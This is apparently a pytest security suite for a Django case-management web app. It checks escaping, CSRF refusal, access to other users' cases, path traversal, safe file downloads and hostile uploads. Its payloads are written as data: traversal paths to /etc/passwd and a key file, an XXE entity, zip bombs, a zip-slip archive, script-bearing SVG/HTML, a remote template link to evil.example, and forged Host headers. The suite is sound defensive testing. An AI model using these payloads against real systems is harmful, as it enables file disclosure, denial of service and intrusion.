"""People and files that mean harm: markup in values, forms from elsewhere, guessed numbers, bad files."""

import csv
import io
import re
import zipfile
from collections.abc import Callable
from contextlib import closing
from html.parser import HTMLParser
from http.client import HTTPConnection

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from fazheng.ledger.models import Entry
from fazheng.ledger.storage import DESK
from fazheng.web.models import Account
from tests.casework import desk
from tests.web.test_case_page import key_in
from tests.web.walking import EXPLORERS, Place, links, name_of, names
from tests.web.whole import FORMULA, HEAD, MARKUP, Whole

Clients = Callable[[str], Client]
LEADS = {"src", "href", "action", "formaction", "data", "poster", "hx-get", "hx-post"}
TRAVERSING = ("../../desk.key", "..%2f..%2fdesk.key", "%2e%2e%2f%2e%2e%2fdesk.key", "....//desk.key", "/etc/passwd",
              "..\\..\\desk.key", "desk.key%00.pdf", "C:%5Cwindows%5Cwin.ini")  # fmt: skip


def written(bureau: str) -> int:
    return Entry.objects.filter(bureau=bureau).count()


# markup in values


class Reader(HTMLParser):
    """What of a page acts, or was not written by us."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        if tag in ("style", "iframe", "object", "embed", "base") or (tag == "script" and not named.get("src")):
            self.wrong.append(tag)
        for name, value in attrs:
            acts = name.startswith("on") or name == "style" or not re.fullmatch(r"[a-zA-Z][\w:-]*", name)
            leads = name in LEADS and re.match(r"\s*(https?:|//|\\\\|javascript:|data:)", value or "", re.I)
            if acts or (leads and (tag != "a" or not leads[1].lower().startswith("http"))):
                self.wrong.append(f"{tag} {name}={value}")


@pytest.fixture(scope="module")
def pages_of_all(whole: Whole, places: dict[str, Place]) -> dict[str, list[tuple[str, str]]]:
    """Every page by the name of its address, as its explorers see it."""
    found: dict[str, list[tuple[str, str]]] = {}
    clients = {who: whole.client(who) for who in EXPLORERS}
    for place in places.values():
        for who in dict.fromkeys((place.by or HEAD, "甲")):
            answer = clients[who].get(place.url)
            if not answer.streaming and "html" in answer.get("Content-Type", ""):
                found.setdefault(place.name, []).append((who, answer.content.decode()))
    return found


@pytest.mark.parametrize("name", names())
def test_no_value_becomes_markup_and_no_page_names_another_host_or_carries_a_script(
    name: str, pages_of_all: dict[str, list[tuple[str, str]]]
) -> None:
    for who, page in pages_of_all.get(name, ()):
        assert MARKUP not in page, who
        assert Reader(page).wrong == [], who


def test_the_values_with_markup_stand_on_many_pages_as_text(
    pages_of_all: dict[str, list[tuple[str, str]]],
) -> None:
    shown = {name for name, pages in pages_of_all.items() for _, page in pages if "&lt;b onclick=x&gt;" in page}
    assert {"case", "list", "today"} <= shown


# forms from elsewhere


@pytest.mark.parametrize("name", names())
def test_a_post_without_its_token_is_refused_at_every_address(
    name: str, places: dict[str, Place], whole: Whole
) -> None:
    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    client.force_login(Account.objects.get(code=HEAD))
    before = written(whole.bureau.code)
    answer = client.post(places[name].url, {"code": "甲"})
    assert answer.status_code == 403
    assert "没有记入" in answer.content.decode()
    assert written(whole.bureau.code) == before


# sessions


def test_who_has_left_the_bureau_gets_to_no_page(whole: Whole, places: dict[str, Place]) -> None:
    gone = Account(code="走了的人", must_change_password=False)
    gone.set_unusable_password()
    gone.save()
    client = whole.client("走了的人")
    for place in places.values():
        if not place.public:
            assert client.get(place.url).status_code == 403, place.url


# numbers that are guessed


def test_a_case_of_others_answers_as_one_that_is_not_there(whole: Whole, places: dict[str, Place]) -> None:
    """The same status and the same words, on every address that names a case."""
    client = whole.client("hotline_desk")
    about = [place.url for place in places.values() if whole.penalty in place.url]
    assert len(about) >= 2
    for url in about:
        theirs, nobodys = client.get(url), client.get(url.replace(whole.penalty, "penalty.ordinary-2026-9999"))
        assert (theirs.status_code, nobodys.status_code) in ((404, 404), (403, 403)), url
        assert _words(theirs.content) == _words(nobodys.content), url
        assert client.post(url).status_code in (403, 404, 405), url


def _words(page: bytes) -> str:
    found = re.search(r"<main.*</main>|<body.*</body>", page.decode(), re.S)
    return re.sub(r'value="[^"]*"|csrf\S+|penalty\.ordinary-2026-\d+|%\S+', "", found[0]) if found else ""


# files that are asked for


@pytest.mark.parametrize("path", TRAVERSING)
def test_no_path_leads_out_of_what_is_served(path: str, whole: Whole, whole_live: str) -> None:
    session = whole.client(HEAD).cookies["sessionid"].value
    secret = (whole.home / "desk.key").read_bytes()
    begins = ("/static/", "/static/web/", f"/case/{whole.ticket}/files/", "/case/", "/lists/", "/help/", "/law/", "/")
    with closing(HTTPConnection(whole_live.removeprefix("http://"), timeout=20)) as wire:
        for begin in begins:
            wire.request("GET", begin + path, headers={"Cookie": f"sessionid={session}"})
            answer = wire.getresponse()
            body = answer.read()
            assert answer.status < 500, begin
            assert secret not in body
            assert b"root:" not in body


def test_every_file_that_is_given_out_is_a_file_to_keep_with_a_plain_name(
    whole: Whole, places: dict[str, Place]
) -> None:
    client = whole.client(HEAD)
    for place in places.values():
        answer = client.get(place.url)
        kind = answer.get("Content-Type", "")
        if answer.status_code == 200 and "html" not in kind:
            assert answer.get("Content-Disposition", "").startswith("attachment"), place.url
            assert answer["X-Content-Type-Options"] == "nosniff", place.url
            assert MARKUP not in answer["Content-Disposition"], place.url
            content = b"".join(answer) if answer.streaming else answer.content
            assert [cell for cell in cells(content) if cell.startswith(FORMULA[0])] == [], place.url


def cells(content: bytes) -> list[str]:
    """Every cell of a table that is given out, as a program that opens it takes it; empty for what is no table."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [FORMULA for sheet in sheets if b"<f>" in sheet or b"<f " in sheet]
    if b"," not in content[:500]:
        return []
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig", "replace"))) for cell in row]


# files that are sent


def _zip(files: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return held.getvalue()


TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
AWAY = b'<Relationships><Relationship Id="r" Type="attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'  # noqa: E501
BAD_FILES = {
    "drawing.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "page.html": b"<html><script>alert(1)</script></html>",
    "linked.docx": _zip({
        "[Content_Types].xml": TYPES, "word/document.xml": b"<w/>", "word/_rels/settings.xml.rels": AWAY,
    }),
    "bomb.docx": _zip({"[Content_Types].xml": TYPES, "word/document.xml": bytes(40 << 20)}),
    "bomb.xlsx": _zip({"[Content_Types].xml": TYPES, "xl/workbook.xml": bytes(40 << 20)}),
    "entities.docx": _zip({
        "[Content_Types].xml": TYPES,
        "word/document.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    }),
    "slip.zip": _zip({"../../desk.key": b"x"}),
    "program.exe": b"MZ" + bytes(2000),
    "empty.pdf": b"",
    f"{MARKUP}.pdf": b"%PDF-1.4 <script>alert(1)</script>",
    "../../desk.key": b"not a key",
}  # fmt: skip


@pytest.fixture(scope="module")
def takes_files(
    places: dict[str, Place], pages_of_all: dict[str, list[tuple[str, str]]]
) -> list[tuple[Place, str, str]]:
    """Every address with a box for a file, the name of the box, and who finds it."""
    found: dict[str, tuple[Place, str, str]] = {}
    for name, pages in pages_of_all.items():
        for who, page in pages:
            boxes = [box for box in re.findall(r"<input[^>]*>", page) if 'type="file"' in box]
            if boxes and (box := re.search(r'name="([^"]+)"', boxes[0])):
                found.setdefault(name, (places[name], box[1], who))
    return list(found.values())


@pytest.mark.parametrize("bad", BAD_FILES)
def test_a_hostile_file_is_refused_or_kept_as_bytes_and_never_breaks_the_desk(
    bad: str, takes_files: list[tuple[Place, str, str]], whole: Whole
) -> None:
    secret = (whole.home / "desk.key").read_bytes()
    for place, box, who in takes_files:
        client = whole.client(who)
        key = re.search(r'name="form_key" value="([0-9a-f]{32})"', client.get(place.url).content.decode())
        sent = {"form_key": key[1] if key else "", box: SimpleUploadedFile("x", BAD_FILES[bad])}
        sent[box].name = bad  # as it came over the wire, not as a browser would clean it
        answer = client.post(place.url, sent, follow=True)
        assert answer.status_code < 500, (place.url, bad)
        page = "" if answer.streaming else answer.content.decode(errors="replace")
        assert "root:" not in page, place.url
        assert "<script>alert" not in page, place.url
        assert MARKUP not in page, place.url
    assert (whole.home / "desk.key").read_bytes() == secret


def test_there_are_boxes_for_files_to_be_tried(takes_files: list[tuple[Place, str, str]]) -> None:
    assert takes_files


def test_an_attachment_of_any_kind_is_given_out_as_a_file_that_cannot_act(whole: Whole) -> None:
    client = whole.client("乙")
    url = f"/case/{whole.ticket}/files/"
    for name in ("drawing.svg", "page.html"):
        key = key_in(client.get(url).content.decode())
        client.post(url, {"form_key": key, "file": SimpleUploadedFile(name, BAD_FILES[name])})
    found = {link for link in links(client.get(f"/case/{whole.ticket}/"), "/") if name_of(link) == "case_file"}
    for link in found:
        given = client.post(link, {"reason": "核对"})
        assert given["Content-Disposition"].startswith("attachment"), link
        assert "svg" not in given["Content-Type"]
        assert "html" not in given["Content-Type"]
        assert "sandbox" in given["Content-Security-Policy"]


# where the desk is asked from


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "testserver:80@evil.example", "a b"])
def test_another_hosts_name_is_refused_and_never_repeated(host: str, whole: Whole) -> None:
    for url in ("/login/", "/today/", "/static/web/desk.css"):
        answer = whole.client(HEAD).get(url, headers={"host": host})
        assert answer.status_code in (400, 404), url
        assert b"evil.example" not in b"".join(answer) if answer.streaming else b"evil.example" not in answer.content


def test_nothing_personal_stands_in_the_sessions_file_or_in_an_address(whole: Whole, places: dict[str, Place]) -> None:
    content = (whole.home / DESK).read_bytes()
    for row in desk.PEOPLE:
        assert f"示例{row}".encode() not in content
    assert all("示例甲" not in place.url for place in places.values())
